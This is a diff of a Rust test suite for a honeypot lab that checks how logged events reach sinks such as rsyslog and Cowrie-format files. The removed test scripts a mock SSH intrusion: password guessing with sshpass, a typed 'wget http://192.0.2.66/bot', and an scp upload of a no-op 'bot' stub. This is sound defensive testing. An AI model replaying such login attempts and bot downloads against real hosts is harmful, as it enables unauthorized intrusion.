@@ -1,18 +1,16 @@
-//! What happened, at those who collect it: rsyslog, a broker of hpfeeds, and files that jq reads.
+//! What happened, at those who collect it: rsyslog, and files that jq reads.
 
 use std::collections::{BTreeMap, BTreeSet};
-use std::path::{Path, PathBuf};
-use std::process::Command;
+use std::path::PathBuf;
 
 use serde_json::Value;
 
-use crate::lab::{Lab, state_dir};
+use crate::lab::Lab;
 use crate::net::{Ns, Running, free_port, sh, wait_for};
-use crate::ssh_recorded::OPTIONS;
 use crate::typist::{HANG_UP, typing};
 
 /// A host with a web site and Telnet, and these sinks.
-fn topology(sinks: &str) -> String {
+pub fn topology(sinks: &str) -> String {
     format!(
         r#"
 name: sinks
@@ -81,7 +79,7 @@ fn seq(line: &Value) -> Option<u64> {
 }
 
 /// Attackers come until the log has that many more records; returns the number of the newest.
-fn attack(lab: &Lab, times: usize) -> u64 {
+pub fn attack(lab: &Lab, times: usize) -> u64 {
     for number in 0..times {
         lab.attacker.run(&[
             "curl",
@@ -121,7 +119,7 @@ fn assert_complete(lab: &Lab, name: &str, told: &[(u64, Value)], newest: u64, mo
 }
 
 /// A CA and a certificate of each of `names`, which are files in the lab.
-fn certificates(lab: &Lab, names: &[&str]) {
+pub fn certificates(lab: &Lab, names: &[&str]) {
     let dir = lab.path("pki");
     std::fs::create_dir_all(&dir).unwrap();
     let script = "cd \"$1\"; shift
@@ -236,7 +234,7 @@ fn syslog_receivers_understand_everything_and_miss_nothing_while_they_are_dead()
 }
 
 /// What jq makes of a file of a sink's.
-fn jq(lab: &Lab, file: &str, program: &str) -> String {
+pub fn jq(lab: &Lab, file: &str, program: &str) -> String {
     let path = lab.own_dir().join("sinks").join(file);
     sh(&["jq", "-rs", program, path.to_str().unwrap()]).trim().to_owned()
 }
@@ -283,197 +281,4 @@ fn files_are_what_their_readers_expect() {
     use std::os::unix::fs::PermissionsExt;
     let mode = std::fs::metadata(lab.own_dir().join("sinks")).unwrap().permissions().mode();
     assert_eq!(mode & 0o777, 0o750);
-}
-
-const RECORDED: &str = r#"
-name: intruded
-sinks:
-  cowrie: {format: cowrie, to: "file:cowrie.json"}
-templates:
-  any: {personality: linux, tcp: {22: {container: ssh, passwords: {root: [second]}, refusal: 100ms}}, backend: {image: small}}
-images:
-  small:
-    recipe: small
-    packages: [openssh-client, openssh-sftp-server, rsync]
-    users: [{name: root, password: toor}, {name: guest, password: guest}]
-nodes:
-  wan: {kind: uplink}
-  any: {kind: host, address: 192.0.2.10, template: any}
-links:
-  - endpoints: [wan, any]
-"#;
-
-#[test]
-fn an_intrusion_by_ssh_reads_as_cowrie_has_it() {
-    let mut lab = Lab::up(RECORDED);
-    lab.attacker.addr("eth0", "192.0.2.2/24");
-    let from = &lab.attacker;
-    let ssh = |password: &str, args: &str| {
-        let command = format!("sshpass -p {password} ssh {} {args}", OPTIONS.join(" "));
-        from.run(&["sh", "-c", &command])
-    };
-    assert!(!ssh("first", "root@192.0.2.10 true").status.success());
-    let output = ssh("second", "root@192.0.2.10 'uname -a'");
-    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
-    // Typed, with a mistake that is mended.
-    let lines = [
-        ("assword:", "second"),
-        ("# ", "echx\x7fo $((6*7))"),
-        (r"42\r\n.*# ", "wget http://192.0.2.66/bot"),
-        ("# ", "exit"),
-    ];
-    typing(&lines, &[&["ssh"][..], &OPTIONS, &["root@192.0.2.10"]].concat(), |words| from.sh(words));
-    let bot = lab.file("bot", "#!/bin/sh\n:\n");
-    let scp = format!("sshpass -p second scp -O {} {} root@192.0.2.10:/tmp/bot", OPTIONS.join(" "), bot.display());
-    from.sh(&["sh", "-c", &scp]);
-    lab.wait_told("shell.command", "192.0.2.10", &["\"wget http://192.0.2.66/bot\""]);
-    lab.wait_told("ssh.file", "192.0.2.10", &["bot"]);
-    wait_for("four connections to end", || {
-        (lab.events().iter().filter(|event| event["event"] == "tcp.close").count() >= 4).then_some(())
-    });
-    lab.down();
-
-    let of_session = |number: usize| {
-        let program = format!(
-            "[group_by(.session)[] | sort_by(.timestamp)] | sort_by(.[0].timestamp) | .[{number}] | \
-             map(.eventid | sub(\"cowrie.\"; \"\")) | join(\" \")"
-        );
-        jq(&lab, "cowrie.json", &program)
-    };
-    let hello = "session.connect client.version client.kex";
-    assert_eq!(of_session(0), format!("{hello} login.failed session.closed"));
-    assert_eq!(of_session(1), format!("{hello} login.success command.input session.closed"));
-    assert_eq!(
-        of_session(2),
-        format!("{hello} login.success client.size command.input command.input command.input session.closed")
-    );
-    assert!(of_session(3).contains("session.file_upload"), "{}", of_session(3));
-    let inputs = jq(&lab, "cowrie.json", "sort_by(.timestamp) | map(.input // empty) | join(\";\")");
-    assert!(inputs.starts_with("uname -a;echo $((6*7));wget http://192.0.2.66/bot;exit"), "{inputs}");
-    let logins =
-        "map(select(.eventid | startswith(\"cowrie.login\")) | [.username, .password] | join(\"/\"))[:2] | join(\" \")";
-    assert_eq!(jq(&lab, "cowrie.json", logins), "root/first root/second");
-    let digest = sh(&["sha256sum", bot.to_str().unwrap()]);
-    let upload = jq(&lab, "cowrie.json", "map(select(.eventid == \"cowrie.session.file_upload\"))[0].shasum");
-    assert_eq!(Some(upload.as_str()), digest.split(' ').next());
-    let fields = "map(has(\"timestamp\") and has(\"src_ip\") and has(\"session\") and has(\"sensor\") and has(\"message\")) | all";
-    assert_eq!(jq(&lab, "cowrie.json", fields), "true");
-}
-
-/// Python's packages of a broker, which are fetched once.
-fn hpfeeds() -> PathBuf {
-    static FETCHED: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
-    let fetch = || {
-        let dir = state_dir().join("hpfeeds");
-        if !Path::new(&dir.join("hpfeeds/broker/server.py")).exists() {
-            let half = state_dir().join(format!("hpfeeds.{}", std::process::id()));
-            let packages = ["hpfeeds==3.1.0", "wrapt", "prometheus-client", "aiohttp"];
-            let install = ["/usr/bin/python3", "-m", "pip", "install", "-q", "--target", half.to_str().unwrap()];
-            sh(&[&install[..], &packages].concat());
-            let _ = std::fs::rename(&half, &dir);
-        }
-        dir
-    };
-    FETCHED.get_or_init(fetch).clone()
-}
-
-const BROKER: &str = r#"
-import asyncio, asyncio.sslproto, sys
-from hpfeeds.broker.server import Server
-from hpfeeds.broker.auth.memory import Authenticator
-
-# It counts what it sends within TLS in a part of asyncio that is called otherwise since Python 3.11.
-if not hasattr(asyncio.sslproto, "_SSLPipe"):
-    asyncio.sslproto.SSLProtocol._sslpipe = property(lambda protocol: protocol)
-
-async def main():
-    name = lambda secret, pub, sub: {"owner": "x", "secret": secret, "pubchans": pub, "subchans": sub}
-    names = {"sensor": name("s3cr3t", ["hw"], []), "within": name("t1s", ["hw"], []), "reader": name("r", [], ["hw"])}
-    server = Server(Authenticator(names))
-    server.add_endpoint_legacy("127.0.0.1:" + sys.argv[1])
-    server.add_endpoint_legacy("127.0.0.1:" + sys.argv[2], tlscert=sys.argv[3], tlskey=sys.argv[4])
-    await server.serve_forever()
-
-asyncio.run(main())
-"#;
-
-const READER: &str = r#"
-import asyncio, sys
-from hpfeeds.asyncio import ClientSession
-
-async def main():
-    async with ClientSession("127.0.0.1", int(sys.argv[1]), "reader", "r") as client:
-        client.subscribe("hw")
-        print("subscribed", flush=True)
-        async for ident, channel, payload in client:
-            print(ident, channel, payload.decode(), flush=True)
-
-asyncio.run(main())
-"#;
-
-#[test]
-fn a_broker_of_hpfeeds_passes_on_what_was_published() {
-    let mut lab = Lab::shared();
-    let packages = hpfeeds();
-    let (port, within) = (free_port().to_string(), free_port().to_string());
-    certificates(&lab, &["broker.example"]);
-    let pki = |name: &str| lab.path("pki").join(name).display().to_string();
-    let (certificate, key) = (pki("broker.example.pem"), pki("broker.example.key"));
-    let (broker, reader) = (lab.file("broker.py", BROKER), lab.file("reader.py", READER));
-    let python = |lab: &Lab, script: &Path| {
-        let script = ["/usr/bin/python3", script.to_str().unwrap(), &port, &within, &certificate, &key];
-        let mut command: Command = lab.wire.command(&script);
-        command.env("PYTHONPATH", &packages);
-        Running::start(&mut command)
-    };
-    let _broker = python(&lab, &broker);
-    for port in [&port, &within] {
-        let listens = format!("sport = :{port}");
-        wait_for("the broker", || lab.wire.sh(&["ss", "-Hltn", &listens]).contains(port).then_some(()));
-    }
-    let mut subscriber = python(&lab, &reader);
-    subscriber.wait_line("subscribed");
-    let (secret, wrong) = (lab.file("secret", "s3cr3t\n"), lab.file("wrong", "guess\n"));
-    let to = format!("to: \"hpfeeds://127.0.0.1:{port}\", ident: sensor, channel: hw");
-    let tls = format!(
-        "to: \"hpfeeds+tls://127.0.0.1:{within}\", ident: within, channel: hw, secret: {}, ca: {}",
-        lab.file("within", "t1s\n").display(),
-        pki("ca.pem")
-    );
-    let sinks = format!(
-        "  feed: {{format: ndjson, {to}, secret: {}}}\n  stranger: {{format: ndjson, {to}, secret: {}}}\n  \
-           within: {{format: ndjson, {tls}, server_name: broker.example}}\n  \
-           astray: {{format: ndjson, {tls}, server_name: another.example}}\n",
-        secret.display(),
-        wrong.display()
-    );
-    lab.start(&topology(&sinks));
-    lab.attacker.addr("eth0", "192.0.2.2/24");
-    let newest = attack(&lab, 3);
-    for sink in ["sensor", "within"] {
-        let publication = |line: &String| {
-            let payload = line.strip_prefix(sink)?.strip_prefix(" hw ")?;
-            serde_json::from_str::<Value>(payload).ok()
-        };
-        let told = loop {
-            let told: Vec<Value> = subscriber.said().iter().filter_map(publication).collect();
-            if told.iter().any(|record| record["seq"] == newest) {
-                break told;
-            }
-            subscriber.wait_line(&format!("{sink} hw "));
-        };
-        let told: Vec<(u64, &Value)> =
-            told.iter().map(|record| (record["seq"].as_u64().unwrap(), &record["event"])).collect();
-        let (numbers, events): (Vec<u64>, Vec<&Value>) = told.into_iter().filter(|(seq, _)| *seq <= newest).unzip();
-        assert_eq!(numbers, (1..=newest).collect::<Vec<_>>(), "{sink}");
-        assert_eq!(*events[newest as usize - 1], "service.request", "{sink}");
-    }
-    for (sink, why) in [("stranger", "the broker says"), ("astray", "certificate")] {
-        let start = format!("sink {sink}: ");
-        let refused = lab.wait_event("sink.state", |event| event["reason"].as_str().unwrap().starts_with(&start));
-        assert!(refused["reason"].as_str().unwrap().contains(why), "{refused}");
-    }
-    // What is shared with the broker is nobody else's.
-    let status = lab.json(&["status"]).to_string();
-    assert!(!status.contains("s3cr3t") && !status.contains("t1s"), "{status}");
 }
